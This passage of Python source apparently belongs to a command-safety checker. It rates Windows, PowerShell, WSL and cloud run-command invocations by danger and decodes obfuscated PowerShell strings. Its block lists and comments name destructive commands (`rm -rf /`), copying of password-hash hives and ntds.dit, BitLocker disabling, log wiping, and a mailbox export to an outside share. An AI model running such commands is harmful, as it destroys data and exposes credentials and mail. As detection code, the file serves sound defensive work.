        convert winrm msiexec bitsadmin-write tzutil w32tm powercfg gpupdate
        manage-bde
        """
    ):
        table.setdefault(name, _write_cmdlet)
    for name in names(
        """
        stop-service clear-recyclebin remove-itemproperty remove-localgroup
        remove-aduser remove-adgroup remove-adobject remove-smbshare remove-vm
        remove-azresourcegroup remove-azvm remove-azstorageaccount remove-mailbox remove-azresource
        remove-appxpackage remove-windowsfeature uninstall-windowsfeature remove-module
        remove-variable remove-job remove-psdrive remove-pssession remove-typedata remove-event
        clear-variable
        remove-netfirewallrule unregister-scheduledtask disable-localuser disable-netadapter
        remove-printer remove-wmiobject remove-ciminstance remove-smbmapping
        remove-psrepository tskill remove-computer reset-computermachinepassword
        disable-computerrestore dism-remove
        """
    ):
        table.setdefault(name, _danger_cmdlet)
    for name in names("remove-vmsnapshot remove-vmcheckpoint remove-wbbackupset remove-wbcatalog"):
        table.setdefault(name, _backup_cmdlet)
    for name in names(
        """
        type dir where findstr ver vol tasklist systeminfo whoami hostname fc comp chcp path
        getmac driverquery echo set cls tree more sort find date time rem exit cd chdir goto
        popd call endlocal setlocal shift verify qprocess query quser nslookup ping tracert pathping
        netstat arp route-print gpresult whoami.exe get-mpthreatdetection get-scheduledtask
        get-netfirewallprofile get-netfirewallrule get-smbshare get-windowsfeature
        get-appxpackage get-wmiobject get-counter get-clipboard get-credential
        test-netconnection resolve-dnsname get-dnsclientserveraddress get-service
        get-psreadlineoption get-command get-verb get-scheduledtaskinfo get-aduser get-adgroup
        get-adcomputer receive-job wait-job get-job export-scheduledtask
        """
    ):
        table.setdefault(name, _misc_windows_safe)
    for name, fn in table.items():
        if name in names(
            """
            type dir where echo set cd chdir find sort more tree date time start copy move
            mkdir md del erase rd timeout ren rename convert label path hostname whoami ping
            nslookup netstat route-print query rem exit call shift goto verify mklink attrib
            xcopy cls pause title color choice pushd popd subst assoc ftype compact chcp fc
            comp vol ver sc net format reg cipher takeown icacls cacls robocopy schtasks runas
            bcdedit vssadmin wmic wbadmin diskpart ipconfig cmd mshta regsvr32 wscript cscript
            wevtutil findstr expand replace print tasklist systeminfo getmac driverquery tracert
            pathping arp gpresult qprocess quser setlocal endlocal setx verify
            """
        ):
            handles(name, windows_only=True)(fn)
        elif name in explicit or name not in HANDLERS:
            handles(name)(fn)


_register()


# WSL distributions' own launchers (`ubuntu2204.exe run …`, `debian -c …`): they run a
# command line in that Linux system, as `wsl -d … -- …` does.
_DISTRO_LAUNCHERS = names(
    """
    ubuntu ubuntu1604 ubuntu1804 ubuntu2004 ubuntu2204 ubuntu2404 debian kali kali-linux
    opensuse-leap-15 opensuse-tumbleweed sles-12 sles-15 fedoraremix oraclelinux
    """
)


def _distro_launcher(cmd: Cmd) -> None:
    args = list(cmd.args)
    if args and args[0].text.lower() in ("run", "-c"):
        rest = args[1:]
        if rest:
            # `ubuntu run "rm -rf /"`: a quoted line is the whole command line
            line = " ".join(_posix_word(w.text) if len(rest) > 1 else w.text for w in rest)
            where = Word(line, rest[0].start, rest[-1].end)
            cmd.scope.include(cmd.scope.nested(line, "bash", where, -1))
            return
    if args and args[0].text.lower() in ("config", "install"):
        cmd.add(M, "system-config", f"{cmd.name} changes the Linux distribution's settings")
        return
    cmd.add(M, "shell", f"{cmd.name} starts a Linux shell")


for _name in _DISTRO_LAUNCHERS:
    handles(_name, windows_only=True)(_distro_launcher)


# --- evaluating literal PowerShell string expressions ----------------------------------------

_PSE_TOKEN = re.compile(
    r"""\s*(?:('(?:[^']|'')*')|("(?:[^"`$]|`.)*")|(0x[0-9a-fA-F]+|\d+)|(\[[\w.]+(?:\[\])?\])"""
    r"""|(-(?:join|f|replace|creplace|ireplace|split|csplit|isplit)\b)|(\$\{?[\w:]+\}?)"""
    r"""|(\.\.|::|[()\[\],+.\-@$]|[A-Za-z_]\w*))""",
    re.I,
)
_PSE_MAX = 4000  # characters of an expression evaluated; past that it stays unknown


class _Unknown(Exception):
    pass


PsValue = str | int | list["PsValue"] | None


def _ps_str(v: PsValue) -> str:
    if v is None:
        return ""
    if isinstance(v, list):
        return " ".join(_ps_str(x) for x in v)
    return str(v)


class _PsEval:
    """A small evaluator of PowerShell expressions made only of literals: strings,
    numbers, `[char]`/`[char[]]`/`[string]` casts, `+`, `,`, `..`, `-join`, `-f`,
    `-replace`, `-split`, indexing (`'…'[-1..-9]`), `.ToCharArray()`, `.Replace()`,
    `[string]::new()`, `[string]::Join()`, `[Convert]::FromBase64String()` with
    `[Text.Encoding]::…GetString()`, and known variables. Anything else is unknown."""

    def __init__(self, text: str, variables: Mapping[str, str]) -> None:
        self.toks: list[tuple[int, str]] = []
        pos = 0
        text = text.strip()
        while pos < len(text):
            m = _PSE_TOKEN.match(text, pos)
            if m is None or m.end() == pos:
                raise _Unknown
            kind = next(i for i in range(1, 8) if m.group(i) is not None)
            self.toks.append((kind, m.group(kind)))
            pos = m.end()
            while pos < len(text) and text[pos].isspace():
                pos += 1
        self.at = 0
        self.vars = variables
        self.steps = 0
        self.no_comma = False  # inside a method's argument list, `,` separates arguments

    def peek(self, ahead: int = 0) -> tuple[int, str]:
        i = self.at + ahead
        return self.toks[i] if i < len(self.toks) else (0, "")

    def take(self, want: str | None = None) -> tuple[int, str]:
        tok = self.peek()
        if tok[0] == 0 or (want is not None and tok[1].lower() != want):
            raise _Unknown
        self.at += 1
        self.steps += 1
        if self.steps > 2000:
            raise _Unknown
        return tok

    def run(self) -> PsValue:
        value = self.expr()
        if self.at != len(self.toks):
            raise _Unknown
        return value

    def expr(self) -> PsValue:
        value = self.additive()
        while self.peek()[0] == 5:
            op = self.take()[1].lower().replace("-c", "-").replace("-i", "-")
            rhs = self.additive()
            if op == "-join":
                value = _ps_str(rhs).join(_ps_str(x) for x in _as_list(value))
            elif op == "-replace":
                pat, rep = [*_as_list(rhs), ""][:2]
                try:
                    value = re.sub(
                        _ps_str(pat),
                        _ps_str(rep).replace("\\", "\\\\").replace("$", "\\"),
                        _ps_str(value),
                    )
                except re.error:
                    raise _Unknown from None
            elif op == "-split":
                try:
                    value = list(re.split(_ps_str(rhs), _ps_str(value)))
                except re.error:
                    raise _Unknown from None
            else:
                value = _ps_fmt(_ps_str(value), [_ps_str(x) for x in _as_list(rhs)])
        return value

    def additive(self) -> PsValue:
        value = self.formatted()
        while self.peek()[1] in ("+", "-") and self.peek()[0] == 7:
            op = self.take()[1]
            rhs = self.formatted()
            if isinstance(value, int) and isinstance(rhs, int):
                value = value + rhs if op == "+" else value - rhs
            elif op == "-":
                raise _Unknown
            elif isinstance(value, list):
                value = value + _as_list(rhs)
            else:
                value = _ps_str(value) + _ps_str(rhs)
        return value

    def formatted(self) -> PsValue:
        value = self.comma()
        while self.peek()[0] == 5 and self.peek()[1].lower() == "-f":
            self.take()
            rhs = self.comma()
            value = _ps_fmt(_ps_str(value), [_ps_str(x) for x in _as_list(rhs)])
        return value

    def comma(self) -> PsValue:
        first = self.ranged()
        if self.no_comma or self.peek()[1] != ",":
            return first
        items = [first]
        while self.peek()[1] == ",":
            self.take()
            items.append(self.ranged())
        return items

    def ranged(self) -> PsValue:
        low = self.unary()
        if self.peek()[1] != "..":
            return low
        self.take()
        high = self.unary()
        if not isinstance(low, int) or not isinstance(high, int) or abs(high - low) > 10000:
            raise _Unknown
        step = 1 if high >= low else -1
        return list(range(low, high + step, step))

    def unary(self) -> PsValue:
        kind, tok = self.peek()
        if kind == 5 and tok.lower() == "-join":
            self.take()
            return "".join(_ps_str(x) for x in _as_list(self.unary()))
        if kind == 7 and tok == "-":
            self.take()
            v = self.unary()
            if not isinstance(v, int):
                raise _Unknown
            return -v
        if kind == 4 and self.peek(1)[1] != "::":
            self.take()
            return _ps_cast(tok[1:-1].lower(), self.unary())
        return self.postfix()

    def postfix(self) -> PsValue:
        value = self.primary()
        while True:
            tok = self.peek()[1]
            if tok == "[":
                self.take()
                saved, self.no_comma = self.no_comma, False
                try:
                    index = self.expr()
                finally:
                    self.no_comma = saved
                self.take("]")
                value = _ps_index(value, index)
            elif tok == "." and self.peek(1)[0] == 7:
                self.take()
                name = self.take()[1].lower()
                args = self.call_args() if self.peek()[1] == "(" else None
                value = _ps_method(value, name, args)
            else:
                return value

    def call_args(self) -> list[PsValue]:
        self.take("(")
        args: list[PsValue] = []
        saved, self.no_comma = self.no_comma, True
        try:
            while self.peek()[1] != ")":
                args.append(self.expr())
                if self.peek()[1] == ",":
                    self.take()
            self.take(")")
        finally:
            self.no_comma = saved
        return args

    def primary(self) -> PsValue:
        kind, tok = self.take()
        if kind == 1:
            return tok[1:-1].replace("''", "'")
        if kind == 2:
            return re.sub(r"`(.)", lambda m: _PS_ESCAPES.get(m.group(1), m.group(1)), tok[1:-1])
        if kind == 3:
            return int(tok, 16) if tok.lower().startswith("0x") else int(tok)
        if kind == 6:
            name = "$" + tok.strip("${}").lower()
            while self.peek()[1] == "." and name + "." + self.peek(1)[1].lower() in self.vars:
                self.take()
                name += "." + self.take()[1].lower()  # `$d.Root` bound by a loop
            if name in self.vars:
                held = self.vars[name]
                return list(held.split("\x01")) if "\x01" in held else held
            raise _Unknown
        if kind == 4:  # [Type]::Member(…)
            self.take("::")
            member = self.take()[1].lower()
            args = self.call_args() if self.peek()[1] == "(" else []
            return _ps_static(tok[1:-1].lower(), member, args, self)
        if tok in ("(", "@", "$"):
            if tok != "(":
                self.take("(")
            if self.peek()[1] == ")":
                self.take()
                return []
            saved, self.no_comma = self.no_comma, False
            try:
                value = self.expr()
            finally:
                self.no_comma = saved
            self.take(")")
            return value
        raise _Unknown


_PS_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "0": "\0", "`": "`", "$": "$", '"': '"'}


def _ps_fmt(fmt: str, args: list[str]) -> str:
    """`'{1} {0}' -f 'a','b'` (alignment and format specifiers are ignored)."""

    def one(m: re.Match[str]) -> str:
        i = int(m.group(1))
        if i >= len(args):
            raise _Unknown
        return args[i]

    return (
        re.sub(r"\{(\d+)(?:,-?\d+)?(?::[^}]*)?\}", one, fmt).replace("{{", "{").replace("}}", "}")
    )


def _as_list(v: PsValue) -> list[PsValue]:
    if isinstance(v, list):
        return v
    return [v]


def _ps_cast(typ: str, v: PsValue) -> PsValue:
    typ = typ.replace("system.", "")
    if typ == "char":
        if isinstance(v, int) and 0 <= v < 0x110000:
            return chr(v)
        if isinstance(v, str) and len(v) == 1:
            return v
        raise _Unknown
    if typ == "char[]":
        if isinstance(v, str):
            return list(v)
        return [_ps_cast("char", x) for x in _as_list(v)]
    if typ == "string":
        return _ps_str(v)
    if typ in ("int", "byte", "int32", "int64", "long"):
        if isinstance(v, int):
            return v
        try:
            return int(_ps_str(v))
        except ValueError:
            raise _Unknown from None
    if typ in ("byte[]", "int[]", "object[]", "array", "string[]"):
        return _as_list(v) if not isinstance(v, str) or typ.startswith("string") else [v]
    raise _Unknown


def _ps_index(v: PsValue, index: PsValue) -> PsValue:
    seq: list[PsValue] | str
    if isinstance(v, (str, list)):
        seq = v
    else:
        raise _Unknown

    def one(i: PsValue) -> PsValue:
        if not isinstance(i, int):
            raise _Unknown
        if -len(seq) <= i < len(seq):
            return seq[i]
        return None

    if isinstance(index, list):
        return [x for x in (one(i) for i in index) if x is not None]
    return one(index)


def _ps_method(v: PsValue, name: str, args: list[PsValue] | None) -> PsValue:
    if args is None:  # a property
        if name in ("length", "count"):
            return len(v) if isinstance(v, (str, list)) else 1
        raise _Unknown
    if name == "tochararray" and isinstance(v, str):
        return list(v)
    if isinstance(v, list) and name in ("reverse",):
        return v[::-1]
    s = _ps_str(v)
    if name == "replace" and len(args) == 2:
        return s.replace(_ps_str(args[0]), _ps_str(args[1]))
    if name in ("tolower", "tolowerinvariant"):
        return s.lower()
    if name in ("toupper", "toupperinvariant"):
        return s.upper()
    if name in ("trim", "trimstart", "trimend") and not args:
        return {"trim": s.strip(), "trimstart": s.lstrip(), "trimend": s.rstrip()}[name]
    if name == "substring" and args and all(isinstance(a, int) for a in args):
        a0 = args[0]
        assert isinstance(a0, int)
        if len(args) == 1:
            return s[a0:]
        a1 = args[1]
        assert isinstance(a1, int)
        return s[a0 : a0 + a1]
    if name == "split" and len(args) == 1:
        return list(s.split(_ps_str(args[0]))) if _ps_str(args[0]) else [s]
    if name == "tostring" and not args:
        return s
    raise _Unknown


def _ps_static(typ: str, member: str, args: list[PsValue], ev: _PsEval) -> PsValue:
    typ = typ.replace("system.", "")
    if typ == "string" and member == "new" and args:
        return "".join(_ps_str(x) for x in _as_list(args[0]))
    if typ == "string" and member == "join" and len(args) >= 2:
        items = args[1:] if len(args) > 2 else _as_list(args[1])
        return _ps_str(args[0]).join(_ps_str(x) for x in items)
    if typ == "string" and member == "concat":
        return "".join(_ps_str(x) for x in args)
    if typ == "char" and member in ("convertfromutf32", "tostring") and args:
        return _ps_cast("char", args[0])
    if typ == "convert" and member == "tochar" and args:
        return _ps_cast("char", args[0])
    if typ == "convert" and member == "frombase64string" and args:
        import base64
        import binascii

        try:
            return list(base64.b64decode(_ps_str(args[0]), validate=False))
        except (binascii.Error, ValueError):
            raise _Unknown from None
    if typ == "io.path" and member == "combine" and args:
        # `[IO.Path]::Combine($env:windir, 'System32', 'cmd.exe')`
        return "\\".join(_ps_str(a).rstrip("\\/") for a in args if _ps_str(a))
    if typ == "io.path" and member in ("directoryseparatorchar", "altdirectoryseparatorchar"):
        return "\\" if member.startswith("dir") else "/"
    if typ == "convert" and member == "tobase64string" and args:
        # `[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('…'))`: the text an
        # `-EncodedCommand` is then given (decoded again where it is run).
        import base64

        data = _as_list(args[0])
        if not all(isinstance(x, int) and 0 <= x < 256 for x in data):
            raise _Unknown
        return base64.b64encode(bytes(x for x in data if isinstance(x, int))).decode()
    if typ == "convert" and member == "fromhexstring" and args:
        text = _ps_str(args[0])  # (PowerShell 7: `[Convert]::FromHexString('726d…')`, m9)
        if len(text) % 2 or not re.fullmatch(r"[0-9A-Fa-f]*", text):
            raise _Unknown
        return list(bytes.fromhex(text))
    if typ in ("text.encoding", "encoding") and member in (
        "utf8",
        "unicode",
        "ascii",
        "default",
        "utf7",
        "utf32",
        "bigendianunicode",
    ):
        # `[Text.Encoding]::UTF8.GetString(bytes)` / `.GetBytes(text)`: the encoding's
        # method follows.
        ev.take(".")
        method = ev.take()[1].lower()
        if method not in ("getstring", "getbytes"):
            raise _Unknown
        data = ev.call_args()
        enc = {"unicode": "utf-16-le", "bigendianunicode": "utf-16-be", "utf32": "utf-32-le"}
        if method == "getbytes":
            try:
                return list(_ps_str(data[0] if data else "").encode(enc.get(member, "utf-8")))
            except UnicodeEncodeError:
                raise _Unknown from None
        raw = bytes(
            x for x in _as_list(data[0] if data else None) if isinstance(x, int) and 0 <= x < 256
        )
        try:
            return raw.decode(enc.get(member, "utf-8"))
        except UnicodeDecodeError:
            raise _Unknown from None
    raise _Unknown


# PowerShell variables whose value is a known folder (a literal path when judged).
PS_KNOWN_VARS = {
    "$home": "~",
    "$env:userprofile": "~",
    "$env:homepath": "~",
    "$env:systemroot": "C:\\Windows",
    "$env:windir": "C:\\Windows",
    "$env:systemdrive": "C:",
    "$env:programfiles": "C:\\Program Files",
    "$env:home": "~",
    "$env:appdata": "~\\AppData\\Roaming",
    "$env:localappdata": "~\\AppData\\Local",
    "$env:temp": "~\\AppData\\Local\\Temp",
    "$env:tmp": "~\\AppData\\Local\\Temp",
    "$env:programdata": "C:\\ProgramData",
    "$env:public": "C:\\Users\\Public",
    "$env:allusersprofile": "C:\\ProgramData",
    "$env:commonprogramfiles": "C:\\Program Files\\Common Files",
    "$pwd": ".",
    "$env:homedrive": "C:",
    "$env:programw6432": "C:\\Program Files",
    "$env:commonprogramw6432": "C:\\Program Files\\Common Files",
    "$env:programfiles(x86)": "C:\\Program Files (x86)",
    "$env:commonprogramfiles(x86)": "C:\\Program Files (x86)\\Common Files",
    "$env:comspec": "C:\\Windows\\System32\\cmd.exe",
    "$pshome": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    "$env:onedrive": "~\\OneDrive",
    "$env:driverdata": "C:\\Windows\\System32\\Drivers\\DriverData",
    "$true": "$true",
    "$false": "$false",
    "$null": "$null",
}


_PS_VAR_PREFIX = "\x00ps:"  # how the PowerShell walker stores constant variables
_PS_ARRAY_PREFIX = "\x00psarray:"  # (and arrays of constants, items joined by \x01)
# (n18w) hex pairs decoded: `'52656d…' -split '(..)' | ? { $_ } | % { [char][Convert]::ToInt32($_,
# 16) }` (ToByte/ToInt16 too): the characters, as `[char[]](82, 101, …)`
_HEX_LOOP = re.compile(
    r"(?i)(?:['\"]([0-9a-f]{2,8000})['\"]|(\$\w+))\s*-split\s*['\"]\(\.\.\)['\"]"
    r"(?:\s*\|\s*(?:\?|where-object|where)\s*\{[^{}]{0,40}\})?"
    r"\s*\|\s*(?:%|foreach-object|foreach)\s*\{\s*\[char\]\s*\(?\s*\[(?:system\.)?convert\]::"
    r"to(?:int16|int32|byte)\(\s*\$(?:_|psitem)\s*,\s*16\s*\)\s*\)?\s*\}"
)


def _hex_codes(m: re.Match[str], variables: Mapping[str, str] | None = None) -> str:
    digits = m.group(1)
    if digits is None:
        held = (variables or {}).get(m.group(2).lower()) or ""
        digits = held if re.fullmatch(r"[0-9a-fA-F]{2,8000}", held) else ""
    if not digits or len(digits) % 2:
        return m.group(0)
    codes = ",".join(str(int(digits[i : i + 2], 16)) for i in range(0, len(digits), 2))
    return f"[char[]]({codes})"


_CHAR_LOOP = re.compile(
    r"(?i)\(\s*(\([^()]*+\)|[^()|]*+)\s*\|\s*(?:%|foreach-object|foreach)\s*\{\s*\[char\]\s*"
    r"\$(?:_|psitem)\s*\}\s*\)"
)


class _PsVariables(Mapping[str, str]):
    """The walk's constant variables (`$s = '…'`, kept in the scope's `env`) over the
    known folders (`$HOME`, `$env:SystemRoot` …), looked up when an expression reads one:
    a script of a thousand assignments would otherwise copy every variable at each one
    (quadratic; safety-sp8)."""

    __slots__ = ("_env",)

    def __init__(self, env: Mapping[str, str]) -> None:
        self._env = env

    def __getitem__(self, name: str) -> str:
        # (an array of literals is its items joined by \x01: the evaluator splits it again)
        held = self._env.get(_PS_ARRAY_PREFIX + name)
        if held is not None and "\x01" in held:
            return held
        key = _PS_VAR_PREFIX + name
        if key in self._env:
            return self._env[key]
        return PS_KNOWN_VARS[name]

    def __contains__(self, name: object) -> bool:
        return isinstance(name, str) and (
            _PS_VAR_PREFIX + name in self._env
            or name in PS_KNOWN_VARS
            or _PS_ARRAY_PREFIX + name in self._env
        )

    def __iter__(self) -> Iterator[str]:
        n = len(_PS_VAR_PREFIX)
        mine = [k[n:] for k in self._env if k.startswith(_PS_VAR_PREFIX)]
        yield from mine
        yield from (k for k in PS_KNOWN_VARS if _PS_VAR_PREFIX + k not in self._env)

    def __len__(self) -> int:
        return sum(1 for _ in self)

    def __bool__(self) -> bool:
        return True  # (the known folders are always there)


def ps_variables(scope: Scope) -> Mapping[str, str]:
    """The PowerShell variables whose constant value the walk knows (`$s = '…'`), over the
    folders whose meaning is known ($HOME, $env:SystemRoot …)."""
    return _PsVariables(scope.env)


_PS_REF = re.compile(r"\$\{([\w:]+)\}|\$((?:env:)?\w+)", re.I)


def interpolate_ps(text: str, variables: Mapping[str, str]) -> str | None:
    """A double-quoted PowerShell string's text with every `$name`/`${name}` replaced by its
    literal value; None when one is unknown (or the string holds a subexpression)."""
    body = text[1:-1] if len(text) >= 2 and text[0] == text[-1] == '"' else text
    if len(body) > 4000:
        return None
    original = body
    if "$(" in body:
        # `"$('Remove')-Item …"`, `"$('{0}' -f 'x')"`: subexpressions of literals first.
        folded = _subexpressions(body, variables)
        if folded is None:
            return None
        body = folded
    missing = False

    def sub(m: re.Match[str]) -> str:
        nonlocal missing
        name = "$" + (m.group(1) or m.group(2)).lower()
        value = variables.get(name)
        if value is None:
            missing = True
            return m.group(0)
        return value

    out = _PS_REF.sub(sub, body)
    return None if missing or out == original else out


def _subexpressions(body: str, variables: Mapping[str, str]) -> str | None:
    """`body` with each `$( … )` replaced by the literal value it evaluates to, or None."""
    out: list[str] = []
    i = 0
    for _ in range(16):
        at = body.find("$(", i)
        if at < 0:
            break
        depth, j = 1, at + 2
        while j < len(body) and depth:
            depth += {"(": 1, ")": -1}.get(body[j], 0)
            j += 1
        if depth:
            return None
        value = ps_eval(body[at + 2 : j - 1], variables)
        if value is None:
            return None
        out.append(body[i:at] + value)
        i = j
    else:
        return None
    out.append(body[i:])
    return "".join(out)


def ps_eval_items(text: str, variables: Mapping[str, str] | None = None) -> list[str] | None:
    """The items of an array a literal PowerShell expression evaluates to (`'…'.ToCharArray()`,
    `'a','b'`), or None when it is not an array or not known."""
    if len(text) > _PSE_MAX or not text.strip():
        return None
    try:
        value = _PsEval(text, variables or {}).run()
    except (_Unknown, RecursionError, ValueError, IndexError, OverflowError, TypeError):
        return None
    return [_ps_str(x) for x in value] if isinstance(value, list) else None


def ps_eval(text: str, variables: Mapping[str, str] | None = None) -> str | None:
    """The string a literal PowerShell expression evaluates to (character codes, format
    strings, reversals, joins), or None when any part is only known at run time."""
    if len(text) > _PSE_MAX or not text.strip():
        return None
    # `(114,109 | % { [char]$_ })`: each code piped through a [char] cast is [char[]](…).
    text = _CHAR_LOOP.sub(r"([char[]](\1))", text)
    if "16" in text and "-split" in text.lower():
        text = _HEX_LOOP.sub(lambda m: _hex_codes(m, variables), text)
    try:
        value = _PsEval(text, variables or {}).run()
    except (_Unknown, RecursionError, ValueError, IndexError, OverflowError, TypeError):
        return None
    if isinstance(value, list):
        return " ".join(_ps_str(x) for x in value)
    return _ps_str(value)


# --- (moved from families5.py, safety-f5) BitLocker off, event-log shrinking, Azure VM
# run-command cmdlets (judged as the script they run), mailbox exports to a web folder ----

_F5_VALUED = frozenset(
    names(
        """
        mountpoint rebootcount logname maximumsize overflowaction retentiondays computername
        resourcegroupname vmname name commandid scriptpath scriptstring sourcescript
        sourcescripturi parameter location mailbox filepath batchname includefolders
        excludefolders contentfilter vmscalesetname instanceid
        """
    )
)


def _f5_params(cmd: Cmd) -> tuple[dict[str, Word | None], list[Word]]:
    bound = ps_bind(cmd.args, lambda n: n in _F5_VALUED)
    return bound.params(), list(bound.positional)


@handles("remove-mppreference")
def _remove_mp_preference(cmd: Cmd) -> None:
    """`Remove-MpPreference -ExclusionPath X`: an exclusion or a setting removed puts
    Defender's default protection back (a settings change, not a deletion)."""
    cmd.add(M, "system-config", "removes a Defender exclusion or setting (back to defaults)")


@handles("suspend-bitlocker", "disable-bitlocker")
def _bitlocker_off(cmd: Cmd) -> None:
    """Suspending or turning off BitLocker leaves the drive readable without its key (the
    ransomware and data-theft step before a reboot or re-encryption): critical."""
    params, _ = _f5_params(cmd)
    if "whatif" in params:
        return
    cmd.add(C, "disable-security", f"{cmd.name} turns BitLocker protection off")


@handles("limit-eventlog")
def _limit_eventlog(cmd: Cmd) -> None:
    """`Limit-EventLog -MaximumSize 64KB -OverflowAction OverwriteAsNeeded`: a log shrunk
    to a few records overwrites its history (the trail is gone, like clearing it)."""
    params, _ = _f5_params(cmd)
    if "whatif" in params:
        return
    size = params.get("maximumsize")
    action = params.get("overflowaction")
    shrunk = size is not None and _bytes(size.text) < 1024 * 1024
    if shrunk or (action is not None and "overwriteasneeded" in action.text.lower() and size):
        cmd.add(C, "clear-logs", f"{cmd.name} shrinks an event log so its records are overwritten")
    else:
        cmd.add(M, "system-config", f"{cmd.name} changes an event log's limits")


def _bytes(text: str) -> float:
    m = re.fullmatch(r"(?i)\s*(\d+(?:\.\d+)?)\s*(kb|mb|gb|tb)?\s*", text)
    if m is None:
        return float("inf")
    unit = {"kb": 1 << 10, "mb": 1 << 20, "gb": 1 << 30, "tb": 1 << 40}.get(
        (m.group(2) or "").lower(), 1
    )
    return float(m.group(1)) * unit


@handles(
    "invoke-azvmruncommand",
    "invoke-azvmssvmruncommand",
    "set-azvmruncommand",
    "invoke-azurermvmruncommand",
    "set-azvmssvmruncommand",
)
def _az_run_command(cmd: Cmd) -> None:
    """Azure VM run-command cmdlets run a script on the VM: `-ScriptString` is judged as the
    PowerShell it holds (like `Invoke-Command -ScriptBlock`); a script file or URI nobody
    can read here runs code on the machine unseen (critical)."""
    params, _ = _f5_params(cmd)
    if "whatif" in params:
        return
    code = params.get("scriptstring") or params.get("sourcescript")
    if code is not None and not code.dynamic:
        cmd.add(M, "remote", f"{cmd.name} runs a script on a virtual machine")
        family = (
            "bash" if re.search(r"(?i)\brunshellscript\b", " ".join(cmd.texts())) else "powershell"
        )
        cmd.scope.include(cmd.scope.nested(code.text, family, code))
        return
    where: Word | None = (
        params.get("scriptpath")
        or params.get("sourcescripturi")
        or code
        or params.get("scriptstring")
    )
    cmd.add(
        C,
        "remote-code",
        f"{cmd.name} runs a script nobody has read here on a virtual machine",
        where,
    )


@handles("send-ssmcommand", "new-ssmassociation", "update-ssmassociation")
def _ssm_cmdlet(cmd: Cmd) -> None:
    """AWS Tools for PowerShell: `Send-SSMCommand -DocumentName AWS-RunPowerShellScript
    -Parameter @{commands='…'}` runs the commands on every targeted instance (judged as those
    commands, like `aws ssm send-command`); commands nobody can read here are critical, and
    an association with a schedule runs them again and again (persistence, safety-m9)."""
    from aintern_ls.safety.infra import _script_strings

    src = cmd.scope.source[cmd.start : cmd.end]
    m = re.search(r"(?is)-parameters?\s+(@\{.*\}|\$\w+)", src)
    if m is None:
        if cmd.name == "send-ssmcommand":
            cmd.add(C, "remote-code", f"{cmd.name} runs a document's commands on remote machines")
        else:
            cmd.add(M, "cloud", f"{cmd.name} associates a document with remote machines")
        return
    if cmd.name != "send-ssmcommand" and re.search(r"(?i)-scheduleexpression\b", src):
        cmd.add(C, "persistence", f"{cmd.name} schedules commands on remote machines")
    if m.group(1).startswith("$"):
        cmd.add(C, "remote-code", f"{cmd.name} runs commands only known at run time remotely")
        return
    family = "bash" if re.search(r"(?i)runshellscript", src) else "powershell"
    cmd.add(M, "remote", f"{cmd.name} runs commands on remote machines")
    where = Word(m.group(1), cmd.start + m.start(1), cmd.start + m.end(1))
    for line in _script_strings(m.group(1)):
        cmd.scope.include(cmd.scope.nested(line, family, where, -1))


_WEB_FOLDER = re.compile(
    r"(?i)inetpub|wwwroot|aspnet_client|[\\/]owa[\\/]|[\\/]ecp[\\/]|htdocs|public_html"
)


@handles("new-mailboxexportrequest", "new-mailboximportrequest")
def _mailbox_export(cmd: Cmd) -> None:
    """Exchange mailbox exports: into a web-served folder (`\\\\EXCH\\c$\\inetpub\\wwwroot`) the
    mailbox can be downloaded by anyone (the ProxyShell exfiltration step): critical; an
    ordinary export copies a mailbox to a file share (moderate)."""
    params, _ = _f5_params(cmd)
    if "whatif" in params:
        return
    path = params.get("filepath")
    if (
        cmd.name == "new-mailboxexportrequest"
        and path is not None
        and _WEB_FOLDER.search(path.text)
    ):
        cmd.add(C, "exfiltration", "exports a mailbox into a web-served folder", path)
        return
    host = (
        re.match(r"[\\/]{2}(\d{1,3}(?:\.\d{1,3}){3})[\\/]", path.text.strip("'\""))
        if path
        else None
    )
    if cmd.name == "new-mailboxexportrequest" and host is not None and _public_ip(host.group(1)):
        # (n18w) `-FilePath \\203.0.113.9\s\ceo.pst`: a share on a public address is outside
        cmd.add(C, "exfiltration", "exports a mailbox to a share on a public address", path)
        return
    cmd.add(M, "write", f"{cmd.name} copies a mailbox to or from a file")


def _public_ip(ip: str) -> bool:
    import ipaddress

    try:
        return ipaddress.ip_address(ip).is_global or ip.startswith(
            ("192.0.2.", "198.51.100.", "203.0.113.")
        )
    except ValueError:
        return False


# --- credential stores copied out, logging and protection hooks, LOLBin odds and ends -----------
# (moved here from the session-6 `atomics.py` and `families6.py`)

# The files that hold password hashes: the SAM/SECURITY/SYSTEM hives (also inside a shadow
# copy) and the domain database.
_HIVE = re.compile(
    r"(?i)(?:^|[\\/])(?:system32[\\/]config[\\/](?:sam|security|system)|ntds[\\/]ntds\.dit|ntds\.dit)"
    r"(?:$|[\\/\s\"'])"
)
_COPIERS = frozenset(
    names(
        """
        copy xcopy robocopy esentutl esentutl.exe copy-item cpi cp certutil certutil.exe
        makecab expand compress-archive 7z 7za rar tar move-item move ntdsutil diskshadow
        wbadmin
        """
    )
)


def shared_protected(path: str, cmd: Cmd) -> bool:
    """A folder whose deletion would be blocked (a drive root, a profile, a system folder):
    sharing it with other machines publishes it (h17)."""
    return bool(path.strip("\"'")) and classify_path(path.strip("\"'"), cmd.scope.cwds).level >= B


# (n18w) a share created through WMI/CIM's Win32_Share Create method (`wmic share call create
# …`, `Invoke-CimMethod -ClassName Win32_Share -MethodName Create -Arguments @{Path='C:\'…}`,
# `([wmiclass]'Win32_Share').Create('C:\Windows', …)`, Invoke-WmiMethod): the folder named
# is judged as New-SmbShare's -Path (a drive root, a profile or a system folder: critical).
_SHARE_PATH = re.compile(
    r"""'([a-z]:\\[^']*|[a-z]:)'|"([a-z]:\\[^"]*|[a-z]:)"|(?<![\w$:\\])([a-z]:\\[^\s,;)'"]*)"""
    r"""|(\$env:\w+|\$home)\b|(%\w+%)""",
    re.I,
)


def share_created(text: str, scope: Scope) -> bool:
    """Judge the paths of a Win32_Share Create call in `text`; True when one is protected."""
    low = text.lower()
    at = low.find("win32_share")
    if at < 0 and not re.search(r"\bshare\s+call\s+create\b", low):
        return False
    if "create" not in low:
        return False
    for m in _SHARE_PATH.finditer(text[:4000]):
        raw = next(g for g in m.groups() if g is not None)
        if raw.startswith("%"):
            raw = "$env:" + raw.strip("%")  # (cmd's %VAR%: the same variable)
        if raw.startswith("$"):
            raw = PS_KNOWN_VARS.get(raw.lower(), "")
        if raw and classify_path(raw, scope.cwds, True).level >= B:
            reason = f"creates a network share of {raw} (Win32_Share Create)"
